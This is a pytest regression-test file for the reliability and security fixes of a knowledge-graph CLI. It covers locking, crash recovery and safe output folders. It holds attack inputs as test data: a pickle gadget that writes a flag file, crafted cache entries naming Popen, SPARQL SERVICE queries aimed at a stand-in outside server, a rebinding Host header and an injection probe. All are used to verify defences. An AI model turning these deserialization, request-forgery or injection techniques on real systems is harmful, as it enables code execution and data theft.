@@ -1,0 +1,919 @@
+"""Issue #14, reliability: what an adversarial or a clumsy user hit. One or more regression tests
+per numbered defect of the issue (each failed on the commit before the fix), with fault injection
+where it needs one: a kill after each file operation of the publication, two concurrent builds,
+crafted cache files, a symbolic link as the store, a 2 MB file, a user's files in the output folder.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import pickle
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+import urllib.error
+import urllib.parse
+import urllib.request
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from pathlib import Path
+
+import pytest
+from helpers import REPO, SEEDS
+from rdflib import Graph, Literal
+from typer.testing import CliRunner
+
+from kg.cli import app
+from kg.errors import BuildError, KgError
+
+# (only names the starting commit had are imported here, so that each test there fails on its own
+# assertions; the new API is imported in the tests that need it)
+SEED_FILES = sorted(SEEDS.glob("*.txt"))
+ONE = SEEDS / "004_8ee35a8ee1100a8c.txt"
+COUNT = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"
+MARKER, STATE = ".kg-output", ".kg-state.json"
+runner = CliRunner()
+
+
+def _kg(*args: str, **kw) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "kg.cli", *args], capture_output=True, text=True, cwd=REPO,
+                          timeout=600, **kw)
+
+
+def _tree(folder: Path) -> dict[str, bytes | str]:
+    """Every file under ``folder`` (links as their target), for before/after comparisons."""
+    out: dict[str, bytes | str] = {}
+    for root, dirs, files in os.walk(folder):
+        for name in dirs + files:
+            p = Path(root) / name
+            rel = str(p.relative_to(folder))
+            if p.is_symlink():
+                out[rel] = "-> " + os.readlink(p)
+            elif p.is_file():
+                out[rel] = p.read_bytes()
+    return out
+
+
+def _kg_folder(path: Path) -> Path:
+    """An empty folder marked as kg's (what a build leaves before its first export)."""
+    from kg.outdir import OutputFolder
+
+    with OutputFolder(path):
+        pass
+    return path
+
+
+def _build(paths, out: Path, **kw):
+    from kg.pipeline import build
+
+    kw.setdefault("html", False)
+    kw.setdefault("validate", False)
+    return build(paths, out, progress=None, **kw)
+
+
+def _report(out: Path) -> dict:
+    return json.loads((out / "report.json").read_text(encoding="utf-8"))
+
+
+# ============================================================== 1. the store link is followed
+def test_reliability_1_build_never_deletes_what_a_foreign_store_link_points_to(tmp_path):
+    victim = tmp_path / "v"
+    victim.mkdir()
+    (victim / "a").write_text("x\n", encoding="utf-8")
+    out = tmp_path / "o"
+    out.mkdir()
+    (out / "store").symlink_to(victim)
+    for extra in ([], ["--force"]):
+        result = runner.invoke(app, ["build", str(SEEDS), "-o", str(out), "-q", *extra])
+        assert result.exit_code == 2, result.output
+        assert (victim / "a").read_text(encoding="utf-8") == "x\n"
+    assert "is not a store" in result.output or "not to a store this kg made" in result.output
+    # a kg folder whose store link the user pointed elsewhere: refused too, before anything is parsed
+    kg_out = _kg_folder(tmp_path / "kgout")
+    (kg_out / "store").symlink_to(victim)
+    result = runner.invoke(app, ["build", str(SEEDS), "-o", str(kg_out), "-q"])
+    assert result.exit_code == 2 and "Move it away, or build with --no-store" in result.output
+    assert (victim / "a").is_file() and not (kg_out / "graph.ttl").exists()
+
+
+@pytest.mark.model
+def test_reliability_1_no_store_build_leaves_a_foreign_store_alone(tmp_path):
+    victim = tmp_path / "v"
+    victim.mkdir()
+    (victim / "a").write_text("x\n", encoding="utf-8")
+    out = _kg_folder(tmp_path / "o")
+    (out / "store").symlink_to(victim)
+    _build([ONE], out, store=False)
+    assert (victim / "a").is_file() and os.readlink(out / "store") == str(victim)
+    assert _report(out)["store"] is None
+    # readers ignore a store the report does not name
+    result = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl"), "-f", "csv"])
+    assert result.exit_code == 0 and result.output.split()[-1] == str(len(Graph().parse(out / "graph.ttl")))
+
+
+# ============================================================== 2. users' files in the output folder
+def _users_files(out: Path) -> None:
+    (out / ".build-tools").mkdir(parents=True)
+    (out / ".build-tools" / "make.sh").write_text("echo mine\n", encoding="utf-8")
+    (out / ".store-backup").mkdir()
+    (out / ".store-backup" / "dump.nq").write_text("mine\n", encoding="utf-8")
+    (out / ".events.csv.orig.tmp").write_text("mine\n", encoding="utf-8")
+    (out / ".build-999999999-abcd").mkdir()  # looks like a killed build's staging folder; is not
+    (out / "notes.txt").write_text("mine\n", encoding="utf-8")
+
+
+def test_reliability_2_refuses_a_folder_that_is_not_kg_s(tmp_path):
+    out = tmp_path / "o"
+    _users_files(out)
+    (out / "graph.ttl").write_text("mine\n", encoding="utf-8")
+    before = _tree(out)
+    result = runner.invoke(app, ["build", str(SEEDS), "-o", str(out)])
+    assert result.exit_code == 2, result.output
+    assert f"{out}: not empty and not a kg output folder" in result.output and "--force" in result.output
+    assert _tree(out) == before  # nothing written, nothing deleted, not even a lock or a marker
+
+
+def test_reliability_2_marker_has_a_format_version_and_newer_ones_are_refused(tmp_path):
+    from kg.errors import UsageError
+    from kg.outdir import OutputFolder
+
+    out = _kg_folder(tmp_path / "o")
+    marker = json.loads((out / MARKER).read_text(encoding="utf-8"))
+    assert marker["format"] == "kg-output" and marker["version"] == 1
+    (out / MARKER).write_text(json.dumps({"format": "kg-output", "version": 99}), encoding="utf-8")
+    with pytest.raises(UsageError, match="newer kg"):
+        OutputFolder(out).open()
+    (out / MARKER).write_text("#!/bin/sh\n", encoding="utf-8")
+    with pytest.raises(UsageError, match="not a kg marker"):
+        OutputFolder(out).open()
+
+
+def test_reliability_2_the_repository_exports_folder_is_marked():
+    """`make run` builds into exports/, which holds a README: the marker says it is kg's."""
+    assert json.loads((REPO / "exports" / MARKER).read_text(encoding="utf-8"))["format"] == "kg-output"
+
+
+@pytest.mark.model
+def test_reliability_2_forced_and_repeated_builds_delete_nothing_kg_did_not_make(tmp_path):
+    out = tmp_path / "o"
+    _users_files(out)
+    mine = _tree(out)
+    result = runner.invoke(app, ["build", str(ONE), "-o", str(out), "-q", "--force", "--no-html", "--no-validate"])
+    assert result.exit_code == 0, result.output
+    # leftovers of a killed build, as the journal records them: removed by the next build
+    from kg.outdir import OutputFolder
+
+    folder = OutputFolder(out).open()
+    stale = [folder.reserve(".build-"), folder.reserve(".store-")]
+    for p in stale:
+        p.mkdir()
+        (p / "x").write_text("half", encoding="utf-8")
+    folder.close()
+    _build([ONE], out)
+    after = _tree(out)
+    assert {k: after.get(k) for k in mine} == mine  # every file of the user, unchanged
+    assert not any(p.exists() for p in stale)
+    assert json.loads((out / STATE).read_text(encoding="utf-8"))["pending"] == []
+
+
+@pytest.mark.model
+def test_reliability_2_an_earlier_kg_s_build_folder_is_adopted(tmp_path):
+    """A folder built before the marker existed (complete exports, report.json hashes, a store
+    link to a hidden home): kg recognises it, marks it, and replaces its store as its own."""
+    out = tmp_path / "o"
+    _build([ONE], out)
+    for name in (MARKER, STATE, ".kg-lock", ".kg-articles.jsonl"):
+        (out / name).unlink()
+    old_home = os.readlink(out / "store")
+    _build(SEED_FILES[:1], out)
+    assert json.loads((out / MARKER).read_text(encoding="utf-8"))["format"] == "kg-output"
+    assert not (out / old_home).exists() and os.readlink(out / "store") != old_home
+    (out / "report.json").write_text("{}", encoding="utf-8")  # no longer a complete build, and no marker
+    (out / MARKER).unlink()
+    result = runner.invoke(app, ["build", str(ONE), "-o", str(out)])
+    assert result.exit_code == 2 and "not a kg output folder" in result.output
+
+
+# ============================================================== 3. two builds into one folder
+@pytest.mark.model
+@pytest.mark.slow
+def test_reliability_3_a_second_build_waits_for_the_first_and_the_store_matches(tmp_path):
+    from kg.store import count_triples
+
+    big = tmp_path / "big"
+    big.mkdir()
+    for i in range(4):  # 20 articles: progress lines are shown from 20
+        for f in SEED_FILES:
+            (big / f"{f.stem}_{i}.txt").write_text(f.read_text(encoding="utf-8") + f"\nCopie {i}.\n", encoding="utf-8")
+    out = tmp_path / "o"
+    first = subprocess.Popen([sys.executable, "-m", "kg.cli", "build", str(big), "-o", str(out), "--no-html",
+                              "--no-validate"], cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    seen = b""
+    while b"[1/" not in seen:  # the first build is parsing, with the folder locked
+        chunk = first.stderr.read1(256)
+        assert chunk, "the first build ended before its first progress line"
+        seen += chunk
+    second = _kg("build", str(ONE), "-o", str(out), "--no-html", "--no-validate")
+    first_out, first_err = first.communicate(timeout=600)
+    assert first.returncode == 0, (seen + first_err).decode()
+    assert second.returncode == 0, second.stderr
+    assert "another kg build (process" in second.stderr and "waiting for it to finish" in second.stderr
+    report = _report(out)
+    assert report["articles"] == 1  # the second build, which waited, published last
+    assert count_triples(out / "store") == report["triples"] == len(Graph().parse(out / "graph.ttl"))
+    from kg.store import store_mismatch
+
+    assert store_mismatch(out / "store") is None
+
+
+def test_reliability_3_the_lock_is_exclusive_and_released_on_close(tmp_path):
+    from kg.outdir import OutputFolder
+
+    out = tmp_path / "o"
+    waits: list[str] = []
+    first = OutputFolder(out).open()
+    got = threading.Event()
+
+    def second() -> None:
+        with OutputFolder(out, on_wait=waits.append):
+            got.set()
+
+    t = threading.Thread(target=second)
+    t.start()
+    time.sleep(0.5)
+    assert not got.is_set() and waits and f"process {os.getpid()}" in waits[0]
+    first.close()
+    t.join(timeout=10)
+    assert got.is_set()
+
+
+# ============================================================== 4. unpickling the cache ran code
+class _Boom:
+    def __init__(self, flag: Path):
+        self.flag = flag
+
+    def __reduce__(self):
+        return (Path.write_text, (self.flag, "pwned"))
+
+
+@pytest.mark.model
+def test_reliability_4_crafted_cache_files_run_no_code(tmp_path):
+    from kg.incremental import CACHE_DIR_NAME, ExtractionCache, article_key
+    from kg.ingest import read_article
+
+    out = tmp_path / "o"
+    _build([ONE], out, cache=True)
+    flag = tmp_path / "pwned"
+    cache = out / CACHE_DIR_NAME
+    (cache / "manifest.pkl").write_bytes(pickle.dumps({"version": "x", "articles": _Boom(flag)}))
+    entry = ExtractionCache(cache)._path(article_key(read_article(ONE)))
+    assert entry.is_file()
+    entry.write_bytes(pickle.dumps(_Boom(flag)))
+    result = runner.invoke(app, ["build", str(ONE), str(SEED_FILES[0]), "-o", str(out), "-i", "--no-html",
+                                 "--no-validate"])
+    assert result.exit_code == 0, result.output
+    assert "not a kg cache entry written by this kg (no kg header line)" in result.output
+    assert str(entry) in result.output and "parsed again" in result.output
+    result = runner.invoke(app, ["remove", SEED_FILES[0].stem, "-o", str(out), "--no-html", "--no-validate"])
+    assert result.exit_code == 0, result.output
+    assert not flag.exists()
+    # the article manifest kg remove reads: a pickle there is refused by name
+    (out / ".kg-articles.jsonl").write_bytes(pickle.dumps(_Boom(flag)))
+    result = runner.invoke(app, ["remove", ONE.stem, "-o", str(out)])
+    assert result.exit_code == 1 and ".kg-articles.jsonl" in result.output and "Traceback" not in result.output
+    assert not flag.exists()
+
+
+def test_reliability_4_cache_files_are_checked_data():
+    from kg.errors import CacheError
+    from kg.incremental import _dump_lines, _load_lines, decode, encode
+    from kg.ingest import article_from_text
+
+    art = article_from_text("a", " date 2024-11 Les rebelles ont pris Alep.\u202e")
+    assert decode(encode(art)) == art
+    for crafted in ({"~c": "Popen", "f": {"args": "id"}}, {"~c": "Article", "f": {"id": "a", "__class__": 1}},
+                    {"~n": [1, 2, 3]}, {"x": 1}):
+        with pytest.raises(ValueError):
+            decode(crafted)
+    data = _dump_lines("kg-articles", [art], count=1)
+    tampered = data.replace(b"Alep", b"Homs")
+    import tempfile
+
+    with tempfile.TemporaryDirectory() as tmp:
+        p = Path(tmp) / "m.jsonl"
+        p.write_bytes(tampered)
+        with pytest.raises(CacheError, match="checksum mismatch"):
+            _load_lines(p, "kg-articles", "kg article manifest")
+        p.write_bytes(data.replace(b'"version": 1', b'"version": 2'))
+        with pytest.raises(CacheError, match="format version 2"):
+            _load_lines(p, "kg-articles", "kg article manifest")
+
+
+def test_reliability_4_cache_version_covers_extraction_sources_only(tmp_path, monkeypatch):
+    import kg.incremental as inc
+
+    files = {p.relative_to(inc._PKG).as_posix() for p in inc._source_files()}
+    assert {"extract.py", "nlp.py", "timex.py", "numbers.py", "gazetteer.py", "geo.py", "ingest.py",
+            "data/triggers.json", "data/places.jsonl"} <= files
+    assert "pipeline.py" not in files and "view.py" not in files
+    # one place to change when extraction moves into packages
+    fake = tmp_path / "kg"
+    (fake / "extract").mkdir(parents=True)
+    (fake / "extract" / "rules.py").write_text("x = 1\n", encoding="utf-8")
+    (fake / "pipeline.py").write_text("VIEW_EVENTS = 1\n", encoding="utf-8")
+    monkeypatch.setattr(inc, "_PKG", fake)
+    monkeypatch.setattr(inc, "EXTRACTION_SOURCES", ("extract/**/*.py",))
+    inc.version_key.cache_clear()
+    try:
+        before = inc.version_key()
+        (fake / "pipeline.py").write_text("VIEW_EVENTS = 2\n", encoding="utf-8")
+        inc.version_key.cache_clear()
+        assert inc.version_key() == before
+        (fake / "extract" / "rules.py").write_text("x = 2\n", encoding="utf-8")
+        inc.version_key.cache_clear()
+        assert inc.version_key() != before
+    finally:
+        inc.version_key.cache_clear()
+
+
+# ============================================================== 5. one long file aborted the batch
+@pytest.mark.model
+@pytest.mark.slow
+def test_reliability_5_a_2_mb_file_is_built_in_pieces(tmp_path):
+    """Over 1,000,000 characters (spaCy's limit), 2.1 MB of UTF-8: built, offsets exact, with the
+    other inputs of the batch."""
+    src = tmp_path / "in"
+    src.mkdir()
+    sentence = ("Les rebelles ont pris le contrôle de la ville de Homs samedi, selon l'Observatoire syrien "
+                "des droits de l'homme.\n")
+    filler = ("é" * 999 + "\n") * 20
+    text = " date 2016-05-01\n" + (sentence + filler) * 53
+    assert len(text) > 1_000_000 and len(text.encode("utf-8")) > 2_000_000
+    (src / "long.txt").write_text(text, encoding="utf-8")
+    (src / ONE.name).write_bytes(ONE.read_bytes())
+    result = runner.invoke(app, ["build", str(src), "-o", str(tmp_path / "o"), "-q", "--no-html", "--no-validate"])
+    assert result.exit_code == 0, result.output
+    assert _report(tmp_path / "o")["articles"] == 2
+    from kg.ingest import read_article
+    from kg.pipeline import extract_articles
+
+    art = read_article(src / "long.txt")
+    ex = extract_articles([art], progress=None)[0]
+    assert all(art.text[m.start:m.end] == m.text for m in ex.mentions)
+    assert max(e.triggers[0][0] for e in ex.events) > 1_000_000
+    assert all(art.text[b:e] and art.text[b:e] in sentence for ev in ex.events for b, e in ev.triggers)
+    by_offset = sorted(ex.events, key=lambda e: e.triggers[0])
+    assert [e.sentence for e in by_offset] == sorted(e.sentence for e in by_offset)  # numbered through the pieces
+
+
+@pytest.mark.model
+def test_reliability_5_a_text_over_the_model_limit_is_parsed_in_pieces(tmp_path, monkeypatch):
+    """The same at small scale (fault injection: the model's limit lowered to 30,000 characters)."""
+    from kg.nlp import load_nlp
+
+    monkeypatch.setattr(load_nlp(), "max_length", 30_000)
+    paragraphs = [f.read_text(encoding="utf-8") for f in SEED_FILES]
+    text = " date 2016-05-01\n" + "\n".join(paragraphs * 4)
+    assert len(text) > 50_000
+    src = tmp_path / "in"
+    src.mkdir()
+    (src / "long.txt").write_text(text, encoding="utf-8")
+    (src / ONE.name).write_bytes(ONE.read_bytes())
+    result = runner.invoke(app, ["build", str(src), "-o", str(tmp_path / "o"), "-q", "--no-html", "--no-validate"])
+    assert result.exit_code == 0, result.output
+    g = Graph().parse(tmp_path / "o" / "graph.ttl")
+    from kg.namespace import NIF
+
+    anchors = 0
+    for m, anchor in g.subject_objects(NIF.anchorOf):
+        if "/article/long#" in str(m):
+            b, e = int(g.value(m, NIF.beginIndex)), int(g.value(m, NIF.endIndex))
+            assert text[b:e] == str(anchor)
+            anchors += 1
+    assert anchors > 100
+
+
+def test_reliability_5_pieces_cover_the_text_and_offsets_move_every_field():
+    import dataclasses
+
+    from kg.segment import OFFSET_FIELDS, split_text
+
+    text = ("Phrase une. " * 30 + "\n") * 40
+    spans = split_text(text, 1000)
+    assert spans[0][0] == 0 and spans[-1][1] == len(text)
+    assert all(a[1] == b[0] for a, b in zip(spans, spans[1:], strict=False))
+    assert all(0 < e - s <= 1000 for s, e in spans)
+    assert all(text[e - 1] == "\n" for _s, e in spans[:-1])  # cut after line breaks
+    for cls, (moved, kept) in OFFSET_FIELDS.items():  # a new field must be declared moved or kept
+        assert {f.name for f in dataclasses.fields(cls)} == moved | kept, cls.__name__
+
+
+# ============================================================== 6. kg serve reached out, never gave up
+class _Recorder(BaseHTTPRequestHandler):
+    hits: list[str] = []
+
+    def _any(self) -> None:
+        _Recorder.hits.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "application/sparql-results+json")
+        self.end_headers()
+        self.wfile.write(b'{"head":{"vars":["s"]},"results":{"bindings":[{"s":{"type":"literal","value":"SECRET"}}]}}')
+
+    do_GET = do_POST = _any
+
+    def log_message(self, *args) -> None:
+        pass
+
+
+@pytest.fixture
+def outside():
+    """A local HTTP server standing for any URL a query could make kg fetch."""
+    _Recorder.hits = []
+    httpd = HTTPServer(("127.0.0.1", 0), _Recorder)
+    t = threading.Thread(target=httpd.serve_forever, daemon=True)
+    t.start()
+    yield f"http://127.0.0.1:{httpd.server_address[1]}/sparql"
+    httpd.shutdown()
+    httpd.server_close()
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def _small_store(tmp_path: Path, triples: int = 300) -> Path:
+    """A store of a few hundred triples: enough that a cartesian product of five of them runs for hours."""
+    from kg.serve import prepare_store
+
+    body = "".join(f"<urn:s{i}> <urn:p{i % 7}> \"{i}\" .\n" for i in range(triples))
+    (tmp_path / "g.trig").write_text(f"<urn:g> {{\n{body}}}\n", encoding="utf-8")
+    return prepare_store(tmp_path / "g.trig", tmp_path / "store")
+
+
+def _post(url: str, query: str, host: str | None = None) -> tuple[int, str]:
+    req = urllib.request.Request(url, data=urllib.parse.urlencode({"query": query}).encode(),
+                                 headers={"Accept": "application/sparql-results+json",
+                                          "Content-Type": "application/x-www-form-urlencoded", **({"Host": host} if host else {})})
+    try:
+        with urllib.request.urlopen(req, timeout=60) as resp:
+            return resp.status, resp.read().decode("utf-8", "replace")
+    except urllib.error.HTTPError as exc:
+        return exc.code, exc.read().decode("utf-8", "replace")
+
+
+def test_reliability_6_serve_refuses_service_and_other_sites(tmp_path, outside):
+    from kg.serve import serve
+
+    store = _small_store(tmp_path)
+    with serve(store, port=_free_port(), timeout=60) as server:
+        for q in (f"SELECT * WHERE {{ SERVICE <{outside}> {{ ?s ?p ?o }} }}",
+                  f"SELECT * WHERE {{ \\u0053ERVICE <{outside}> {{ ?s ?p ?o }} }}",
+                  f"select * {{ service silent <{outside}> {{ ?s ?p ?o }} }}"):
+            status, body = _post(server.url, q)
+            assert status == 403 and "federated" in body, (status, body)
+            status, _ = _post(server.url + "?" + urllib.parse.urlencode({"query": q}), "ASK {}")
+            assert status == 403
+        assert _Recorder.hits == [] and "SECRET" not in body
+        status, body = _post(server.url, "ASK {}", host="rebind.attacker.example:80")
+        assert status == 403 and "Host" in body
+        assert _post(server.url, "ASK {}", host=f"localhost:{server.port}")[0] == 200
+        assert _post(server.url, 'SELECT ("SERVICE" AS ?x) {}')[0] == 200  # the word in a string is fine
+
+
+def test_reliability_6_serve_stops_a_query_past_its_timeout(tmp_path, monkeypatch):
+    import psutil
+
+    import kg.serve
+    from kg.serve import serve
+
+    monkeypatch.setattr(kg.serve, "GRACE", 3.0)
+    store = _small_store(tmp_path)
+    with serve(store, port=_free_port(), query_timeout=2, timeout=60) as server:
+        # a sort over a cartesian product: Oxigraph's own timeout does not stop it; the proxy does
+        first = server.process.pid
+        t0 = time.monotonic()
+        status, body = _post(server.url, "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l } ORDER BY ?a")
+        assert status == 503 and "was stopped" in body, (status, body)
+        assert time.monotonic() - t0 < 45
+        assert not psutil.pid_exists(first) or psutil.Process(first).status() == "zombie"
+        assert server.restarts == 1 and server.running
+        assert _post(server.url, "ASK {}")[0] == 200
+
+
+@pytest.mark.model
+def test_reliability_6_kg_query_refuses_service_unless_asked(tmp_path, outside):
+    from helpers import seed_build
+
+    q = f"SELECT ?s WHERE {{ SERVICE <{outside}> {{ ?s ?p ?o }} }}"
+    out = seed_build()
+    nostore = tmp_path / "nostore"
+    nostore.mkdir()
+    (nostore / "graph.ttl").write_bytes((out / "graph.ttl").read_bytes())
+    for graph in (out / "graph.ttl", nostore / "graph.ttl"):  # the store path and the rdflib path
+        result = runner.invoke(app, ["query", q, "-g", str(graph)])
+        assert result.exit_code == 1 and "--allow-service" in result.output, result.output
+    assert _Recorder.hits == []
+    result = runner.invoke(app, ["query", q, "-g", str(nostore / "graph.ttl"), "--allow-service", "-f", "csv"])
+    assert result.exit_code == 0 and "SECRET" in result.output, result.output
+    assert _Recorder.hits
+
+
+# ============================================================== 7. parameters pasted into the text
+PROBE = ('PREFIX skos: <http://www.w3.org/2004/02/skos/core#>\n'
+         'SELECT ?INJECTED ?label ("see WHERE { here" AS ?note) WHERE { ?x skos:prefLabel ?label '
+         'FILTER(STR(?label) = STR(?name)) }\n')
+PROBE_VALUE = " AS ?a) WHERE { { SELECT (COUNT(*) AS ?INJECTED) WHERE { ?s ?p ?o } } } #"
+
+
+@pytest.mark.model
+def test_reliability_7_the_injection_probe_binds_on_both_paths_alike(tmp_path):
+    from helpers import seed_build
+
+    from kg.store import format_result, load_graph, query_store, run_query
+
+    out = seed_build()
+    (tmp_path / "probe.rq").write_text(PROBE, encoding="utf-8")
+    result = runner.invoke(app, ["query", str(tmp_path / "probe.rq"), "-g", str(out / "graph.ttl"),
+                                 "-p", f"name={PROBE_VALUE}", "-f", "csv"])
+    assert result.exit_code == 0, result.output
+    assert result.stdout.strip().splitlines() == ["INJECTED,label,note"]
+    g = load_graph(out / "graph.ttl")
+    for value in (Literal(PROBE_VALUE), Literal("Homs", lang="fr"), Literal('x"y\\z')):
+        binding = {"name": value}
+        assert format_result(query_store(out / "store", PROBE, binding), "csv") == \
+            format_result(run_query(g, PROBE, binding), "csv")
+    homs = format_result(query_store(out / "store", PROBE, {"name": Literal("Homs")}), "csv").splitlines()[1:]
+    assert homs and set(homs) == {",Homs,see WHERE { here"}
+
+
+@pytest.mark.model
+@pytest.mark.parametrize("name", ["territory-captures", "events-in-place", "who-fought-whom", "casualty-tolls",
+                                  "events-by-type-month", "actor-timeline", "places-within", "adversaries"])
+def test_reliability_7_named_queries_with_parameters_answer_alike_on_store_and_rdflib(name):
+    from helpers import seed_build
+
+    from kg.queries import bind_params, list_queries, load_query
+    from kg.store import format_result, load_graph, query_store, run_query
+
+    out = seed_build()
+    g = load_graph(out / "graph.ttl")
+    sample = {"place": "Homs", "actor": "Armée syrienne", "since": "2012", "type": "Airstrike",
+              "group": "ckg:Civilians", "source": "OSDH"}
+    info = next(q for q in list_queries() if q.name == name)
+    params = {p.name: sample[p.name] for p in info.params if p.name in sample}
+    assert params
+    text = load_query(name)
+    found = 0
+    for chosen in [params] + [{k: v} for k, v in params.items()]:  # all together, then each alone
+        bound = bind_params(chosen, g)
+        store_rows = _rows(format_result(query_store(out / "store", text, bound), "csv"))
+        assert store_rows == _rows(format_result(run_query(g, text, bound), "csv")), chosen
+        found += len(store_rows) - 1
+    assert found, "no binding returned rows: the comparison would be empty"
+
+
+def _rows(text: str) -> list:
+    """CSV rows, header first, each GROUP_CONCAT cell's parts sorted (their order is the engine's)."""
+    rows = list(csv.reader(text.splitlines()))
+    return rows[:1] + sorted(["; ".join(sorted(c.split("; "))) for c in r] for r in rows[1:])
+
+
+def test_reliability_7_values_go_first_in_the_outer_group_found_by_a_lexer():
+    from kg.sparql import outer_group_end, with_values
+
+    q = 'PREFIX x: <urn:x#> # a WHERE { in a comment\nSELECT ("WHERE {" AS ?w) (EXISTS { ?a ?b ?c } AS ?e)\nWHERE { ?a ?b ?c }'
+    assert q[:outer_group_end(q)].endswith("WHERE {") and q.count("{", 0, outer_group_end(q)) == 4
+    out = with_values(q, ["a"], ['"v\\" } #"'])
+    assert out.endswith('WHERE { VALUES (?a) { ("v\\" } #") }  ?a ?b ?c }')
+    from kg.errors import QueryError
+
+    with pytest.raises(QueryError, match="not one RDF term"):
+        with_values(q, ["a"], ['"v" } SELECT'])
+    with pytest.raises(QueryError, match="short form"):
+        with_values("CONSTRUCT WHERE { ?s ?p ?o }", ["s"], ["<urn:s>"])
+    import kg.store
+
+    assert not hasattr(kg.store, "_with_values")
+
+
+# ============================================================== 8. store and exports of two builds
+@pytest.mark.model
+def test_reliability_8_report_names_the_store_and_readers_check_it(tmp_path):
+    out = tmp_path / "o"
+    report = _build(SEED_FILES[:2], out)
+    assert "store" in _report(out), "report.json does not cover the store"
+    from kg.store import store_digest, store_mismatch
+
+    assert _report(out)["store"] == store_digest(out / "store")
+    ok = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl"), "-f", "csv"])
+    assert ok.exit_code == 0 and ok.stdout.split() == ["n", str(report.triples)] and "warning" not in ok.output
+    # the store of another build (what a kill between the two left before the fix)
+    data = _report(out)
+    data["store"] = "0" * 64
+    (out / "report.json").write_text(json.dumps(data), encoding="utf-8")
+    assert "does not match" in store_mismatch(out / "store")
+    result = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl"), "-f", "csv"])
+    assert result.exit_code == 0 and "does not match" in result.output and "answering from" in result.output
+    assert result.stdout.split() == ["n", str(report.triples)]
+    view = runner.invoke(app, ["view", "-g", str(out / "graph.ttl"), "-o", str(tmp_path / "v.html")])
+    assert view.exit_code == 0 and "does not match" in view.output
+    # and when graph.ttl does not match report.json either: say so, answer nothing
+    with open(out / "graph.ttl", "a", encoding="utf-8") as fh:
+        fh.write("\n")
+    result = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl")])
+    assert result.exit_code == 1 and "Run 'kg build' again" in result.output
+
+
+def _kill_at(step: int, paths, out: Path, extractions: list) -> bool:
+    """Build ``paths`` into ``out`` from ``extractions`` in a process that SIGKILLs itself right
+    after its ``step``-th file operation (rename, symbolic link) in ``out`` (see
+    tests/kill_helpers.py); True if it was killed there, False if the build ran to its end."""
+    import multiprocessing
+
+    import kill_helpers
+
+    ctx = multiprocessing.get_context("forkserver")
+    ctx.set_forkserver_preload(["kg.pipeline"])
+    proc = ctx.Process(target=kill_helpers.build_killed_at, args=(step, list(paths), out, extractions))
+    proc.start()
+    proc.join(timeout=600)
+    assert proc.exitcode is not None, "the build hung"
+    assert proc.exitcode in (0, -signal.SIGKILL), proc.exitcode
+    return proc.exitcode == -signal.SIGKILL
+
+
+@pytest.mark.model
+@pytest.mark.slow
+def test_reliability_8_a_kill_after_each_publication_step_is_detected_and_repaired(tmp_path, monkeypatch):
+    """Kill a build after each file operation of its publication: every export is whole (the
+    previous build's or the new one's), readers never answer from a store that report.json does
+    not name, the user's file stays, and the next build repairs the folder."""
+    import kill_helpers
+
+    import kg.pipeline
+    from kg.ingest import ingest
+    from kg.store import count_triples
+
+    out = tmp_path / "o"
+    small = sorted(SEED_FILES, key=lambda f: f.stat().st_size)
+    old_paths, new_paths = small[:1], small[:2]
+    extractions = kg.pipeline.extract_articles(ingest(new_paths).articles, progress=None)
+    monkeypatch.setattr(kg.pipeline, "extract_articles", kg.pipeline.extract_articles)  # restored after the test
+    kill_helpers.given(kg.pipeline, extractions)
+    _build(old_paths, out)
+    (out / "notes.txt").write_text("mine\n", encoding="utf-8")
+    old = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file() and not p.name.startswith(".")}
+    fresh = tmp_path / "fresh"
+    _build(new_paths, fresh)
+    new = {p.name: p.read_bytes() for p in fresh.iterdir() if p.is_file() and not p.name.startswith(".")}
+    new["notes.txt"] = b"mine\n"
+    killed_at = []
+    for step in range(1, 40):
+        if not _kill_at(step, new_paths, out, extractions):
+            break  # the build ran to its end: every step has been tried
+        killed_at.append(step)
+        for name, data in ((p.name, p.read_bytes()) for p in out.iterdir() if p.is_file()
+                           and not p.name.startswith(".")):
+            assert data in (old.get(name), new.get(name)), f"step {step}: {name} is neither old nor new"
+        assert (out / "notes.txt").read_text(encoding="utf-8") == "mine\n"
+        report = _report(out)
+        result = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl"), "-f", "csv"])
+        if "does not match" not in result.output:  # the reader trusts the store: its answer is the report's
+            assert result.exit_code == 0 and result.stdout.split() == ["n", str(report["triples"])], (step, result.output)
+        else:  # it does not: it answers from a graph file that agrees with report.json, or not at all
+            assert result.exit_code == 1 or result.stdout.split() == ["n", str(report["triples"])], (step, result.output)
+        _build(old_paths, out)  # repaired: back to the old build for the next kill
+        again = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl"), "-f", "csv"])
+        assert again.output.split() == ["n", str(_report(out)["triples"])] == ["n", str(count_triples(out / "store"))]
+        assert sorted(p.name for p in out.iterdir() if p.name.startswith(".build-")) == []
+    assert len(killed_at) >= 8, killed_at  # journal writes, store home, link, 5 exports + manifest, report
+    assert json.loads((out / STATE).read_text(encoding="utf-8"))["pending"] == []
+    homes = [p.name for p in out.iterdir() if p.name.startswith(".store-")]
+    assert homes == [os.readlink(out / "store")]
+
+
+# ============================================================== 9. kg remove used an older cache
+@pytest.mark.model
+def test_reliability_9_remove_works_from_the_current_build(tmp_path):
+    out = tmp_path / "o"
+    _build(SEED_FILES[:4], out, cache=True)  # an incremental build of four articles
+    _build(SEED_FILES[3:], out)  # then a plain build of two others
+    result = runner.invoke(app, ["remove", SEED_FILES[4].stem, "-o", str(out), "-q", "--no-html", "--no-validate"])
+    assert result.exit_code == 0, result.output
+    assert _report(out)["articles"] == 1
+    _build(SEED_FILES[3:4], tmp_path / "alone")
+    assert (out / "graph.ttl").read_bytes() == (tmp_path / "alone" / "graph.ttl").read_bytes()
